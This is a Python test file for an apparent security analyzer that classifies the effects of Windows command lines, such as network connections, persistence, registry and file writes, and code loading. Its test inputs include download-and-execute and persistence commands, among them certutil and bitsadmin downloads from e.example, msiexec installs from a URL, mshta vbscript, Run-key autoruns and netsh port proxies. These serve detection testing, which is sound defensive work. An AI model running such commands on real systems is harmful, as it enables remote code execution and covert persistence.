from __future__ import annotations

import pytest
from telling import told

from gk_hooks.analyzers.commands import effects_of
from gk_hooks.analyzers.commands.cmdline import split_line, split_words
from gk_hooks.analyzers.context import Context
from gk_hooks.model.effects import Effect, Execute, Mechanism, Site, Via
from gk_hooks.model.registry import registry_place, spell_key
from gk_hooks.model.values import HOLE, Text

SITE = Site(1, 1, 1, 9, "start")
RUN = "HKCU\\Software\\Microsoft\\Windows\\CurrentVersion\\Run"


def run(line: str) -> list[Effect]:
    """The effects of a Windows command line, in which ``{x}`` is not known."""
    (words,) = split_line(Text.template(line.replace("{x}", HOLE)))
    return list(effects_of(words, SITE, Context(), via=Via.NATIVE))


def shown(line: str) -> list[str]:
    return [told(effect).removeprefix("1 ") for effect in run(line) if not isinstance(effect, Execute)]


@pytest.mark.parametrize(
    ("line", "expected"),
    (
        pytest.param("certutil -urlcache -split -f https://e.example/a a", "https://e.example/a", id="certutil"),
        pytest.param("certutil.exe -verifyctl -f https://e.example/a", "https://e.example/a", id="certutil -verifyctl"),
        pytest.param(
            "bitsadmin /transfer j /download https://e.example/a C:\\a", "https://e.example/a", id="bitsadmin"
        ),
        pytest.param("bitsadmin /addfile j http://e.example/a C:\\a", "http://e.example/a", id="bitsadmin /addfile"),
        pytest.param("msiexec /q /i https://e.example/a.msi", "https://e.example/a.msi", id="msiexec"),
        pytest.param("certreq -Post -config https://e.example c:\\a", "https://e.example", id="certreq"),
        pytest.param("desktopimgdownldr /lockscreenurl:https://e.example/a", "https://e.example/a", id="in a switch"),
        pytest.param("wmic os get /format:https://e.example/a.xsl", "https://e.example/a.xsl", id="wmic /format"),
        pytest.param("rundll32 url.dll,OpenURL https://e.example", "https://e.example", id="rundll32 url.dll"),
        pytest.param("start https://e.example", "https://e.example", id="start opens a browser"),
        pytest.param("explorer https://e.example", "https://e.example", id="explorer"),
        pytest.param("net use z: \\\\fs\\share", "fs", id="net use"),
        pytest.param("net view \\\\fs", "fs", id="net view"),
        pytest.param("copy \\\\fs\\share\\a .", "fs", id="a share"),
        pytest.param("type \\\\e.example@SSL\\dav\\a", "e.example", id="WebDAV"),
        pytest.param("finger x@e.example", "e.example", id="finger"),
        pytest.param("tasklist /s host1", "host1", id="another computer"),
        pytest.param("shutdown /r /m \\\\host1", "host1", id="shutdown of another computer"),
        pytest.param("winrs -r:host1 ipconfig", "host1", id="winrs"),
        pytest.param("wmic /node:host1 os list", "host1", id="wmic /node"),
        pytest.param("reg query \\\\host1\\HKLM\\Software", "host1", id="a remote registry"),
        pytest.param("certutil -urlcache {x}", "{…}", id="an unknown URL"),
        pytest.param("copy \\\\{x}\\share\\a .", "{…}", id="an unknown server"),
    ),
)
def test_destinations(line: str, expected: str) -> None:
    assert [text.split()[2] for text in shown(line) if text.startswith("Connect ")] == [expected]


@pytest.mark.parametrize(
    ("line", "expected"),
    (
        pytest.param("schtasks /create /tn a /tr b.exe", "schtasks schedule schtasks create a", id="schtasks"),
        pytest.param("SCHTASKS.EXE /Change /TN a /ENABLE", "schtasks schedule schtasks change a", id="upper case"),
        pytest.param("sc create svc binPath= C:\\a.exe", "sc schedule sc create svc", id="sc create"),
        pytest.param("sc \\\\h config svc start= auto", "sc schedule sc config svc", id="sc on another computer"),
        pytest.param("net start svc", "net schedule net start svc", id="net start"),
        pytest.param("at 12:00 a.exe", "at schedule at create a.exe", id="at"),
        pytest.param(f"reg add {RUN} /v a /d b", f"reg autorun reg add {RUN}", id="a Run key"),
        pytest.param("nssm install svc a.exe", "nssm schedule nssm install svc", id="nssm"),
        pytest.param("wmic service a call create", "wmic schedule wmic call {…}", id="wmic service"),
        pytest.param("netsh add helper a.dll", "netsh autorun netsh add helper a.dll", id="a netsh helper"),
        pytest.param(
            "bitsadmin /SetNotifyCmdLine j a.exe NULL", "bitsadmin schedule bitsadmin set a.exe NULL", id="bits"
        ),
        pytest.param(
            "reg delete HKLM\\SYSTEM\\CurrentControlSet\\Services\\x /f",
            "reg schedule reg delete HKLM\\SYSTEM\\CurrentControlSet\\Services\\x",
            id="a service's key goes",
        ),
    ),
)
def test_persistence(line: str, expected: str) -> None:
    assert [text for text in shown(line) if text.startswith("Persist")] == [f"Persist {expected}"]


@pytest.mark.parametrize(
    ("line", "expected"),
    (
        pytest.param("reg add HKCU\\Software\\A /v x", ["RegistryWrite reg HKCU\\Software\\A x"], id="a harmless key"),
        pytest.param(f"reg delete {RUN} /v a /f", [f"RegistryWrite reg {RUN} a"], id="an autorun goes"),
        pytest.param("setx A b", ["RegistryWrite setx HKCU\\Environment A"], id="setx"),
        pytest.param("copy a C:\\Windows\\a", ["WritePath copy C:\\Windows\\a copy"], id="copy"),
        pytest.param("robocopy a C:\\Windows /e", ["WritePath robocopy C:\\Windows copy"], id="robocopy"),
        pytest.param("robocopy a C:\\Windows /l", [], id="robocopy only lists"),
        pytest.param("del /f /q C:\\a", ["WritePath del C:\\a delete"], id="del"),
        pytest.param("mklink /d C:\\a C:\\b", ["WritePath mklink C:\\a link"], id="mklink"),
        pytest.param("attrib +h a", ["WritePath attrib a change attributes"], id="attrib"),
        pytest.param("attrib a", [], id="attrib asks"),
        pytest.param("icacls a /grant x:F", ["WritePath icacls a change rights"], id="icacls"),
        pytest.param("certutil -decode a.txt a.exe", ["WritePath certutil a.exe write"], id="certutil -decode"),
        pytest.param("rundll32 a.dll,Start", ["LoadNative rundll32 a.dll"], id="rundll32"),
        pytest.param(
            "netsh interface portproxy add v4tov4 listenport=1 connectaddress=10.0.0.1",
            ["Listen netsh", "Connect netsh 10.0.0.1"],
            id="a port proxy",
        ),
        pytest.param('forfiles /c "cmd /c curl https://e.example"', ["Connect curl https://e.example"], id="forfiles"),
        pytest.param('start "" /b curl https://e.example', ["Connect curl https://e.example"], id="start"),
        pytest.param("pcalua -a curl -c https://e.example", ["Connect curl https://e.example"], id="pcalua"),
        pytest.param(
            'wmic process call create "curl https://e.example"', ["Connect curl https://e.example"], id="wmic"
        ),
        pytest.param(
            'mshta "vbscript:Execute(""x"")"',
            ['DynamicCode mshta text Execute("x")', "DynamicCode Execute text x"],
            id="mshta's code",
        ),
    ),
)
def test_other_effects(line: str, expected: list[str]) -> None:
    assert shown(line) == expected


@pytest.mark.parametrize(
    "line",
    (
        "schtasks /query /tn a",
        "sc query",
        "sc qc svc",
        "net start",
        "net use",
        "net user",
        "net view",
        "net share",
        "reg query HKLM\\Software",
        "reg export HKLM\\Software -",
        "wmic process list brief",
        "wmic startup list",
        "netsh interface show interface",
        "netsh advfirewall firewall show rule name=all",
        "certutil -hashfile a SHA256",
        "bitsadmin /list",
        "tasklist /svc",
        "msiexec /i C:\\a.msi /qn",
        "schtasks /create /?",
        "reg add /?",
        "assoc .txt",
    ),
)
def test_questions_have_no_effects(line: str) -> None:
    assert [text for text in shown(line) if not text.startswith("WritePath reg -")] == []


@pytest.mark.parametrize(
    ("key", "name", "place"),
    (
        pytest.param(RUN, "x", Mechanism.AUTORUN, id="Run"),
        pytest.param(RUN, None, Mechanism.AUTORUN, id="Run with an unknown name"),
        pytest.param(
            "HKLM:\\SOFTWARE\\WOW6432Node\\Microsoft\\Windows\\CurrentVersion\\RunOnce",
            "x",
            Mechanism.AUTORUN,
            id="32 bit",
        ),
        pytest.param(
            "SOFTWARE\\Microsoft\\Windows NT\\CurrentVersion\\Winlogon", "Shell", Mechanism.AUTORUN, id="no hive"
        ),
        pytest.param(
            "HKLM\\SOFTWARE\\Microsoft\\Windows NT\\CurrentVersion\\Winlogon", "DefaultUserName", None, id="Winlogon"
        ),
        pytest.param("HKLM\\SOFTWARE\\Microsoft\\Windows NT\\CurrentVersion\\Winlogon", HOLE, None, id="unknown there"),
        pytest.param(
            "Registry::HKEY_LOCAL_MACHINE\\SYSTEM\\ControlSet001\\Services\\x",
            "Start",
            Mechanism.SCHEDULE,
            id="service",
        ),
        pytest.param(
            HOLE + "\\Microsoft\\Windows\\CurrentVersion\\Run", "x", Mechanism.AUTORUN, id="an unknown beginning"
        ),
        pytest.param("HKCU\\Software\\Microsoft\\Windows\\CurrentVersion\\Runtime", "x", None, id="Runtime"),
        pytest.param("HKCU\\Software\\MyApp\\Run", "x", None, id="another Run"),
        pytest.param("HKCU\\Environment", "UserInitMprLogonScript", Mechanism.AUTORUN, id="a logon script"),
        pytest.param("HKCU\\Environment", "PATH", None, id="a variable"),
    ),
)
def test_registry_places(key: str, name: str | None, place: Mechanism | None) -> None:
    assert registry_place(key, name) is place


def test_keys_have_one_spelling() -> None:
    spelled = "HKLM\\Software\\A"
    for key in (
        "HKEY_LOCAL_MACHINE\\Software\\A",
        "HKLM:\\Software\\\\A\\",
        "Registry::HKLM\\Software\\A",
        "hklm/Software/A",
    ):
        assert spell_key(key) == spelled


@pytest.mark.parametrize(
    ("line", "words"),
    (
        pytest.param('a "b c" d', ["a", "b c", "d"], id="quotes"),
        pytest.param('a "b \\"c\\" d" e', ["a", 'b "c" d', "e"], id="escaped quotes"),
        pytest.param('a "b ""c"" d"', ["a", 'b "c" d'], id="doubled quotes"),
        pytest.param('a ""', ["a", ""], id="an empty word"),
        pytest.param('dir "C:\\a b\\"', ["dir", "C:\\a b\\"], id="a folder at the end"),
        pytest.param("a\\b\\\\c", ["a\\b\\\\c"], id="backslashes"),
    ),
)
def test_words_of_a_command_line(line: str, words: list[str]) -> None:
    assert split_words(line) == words
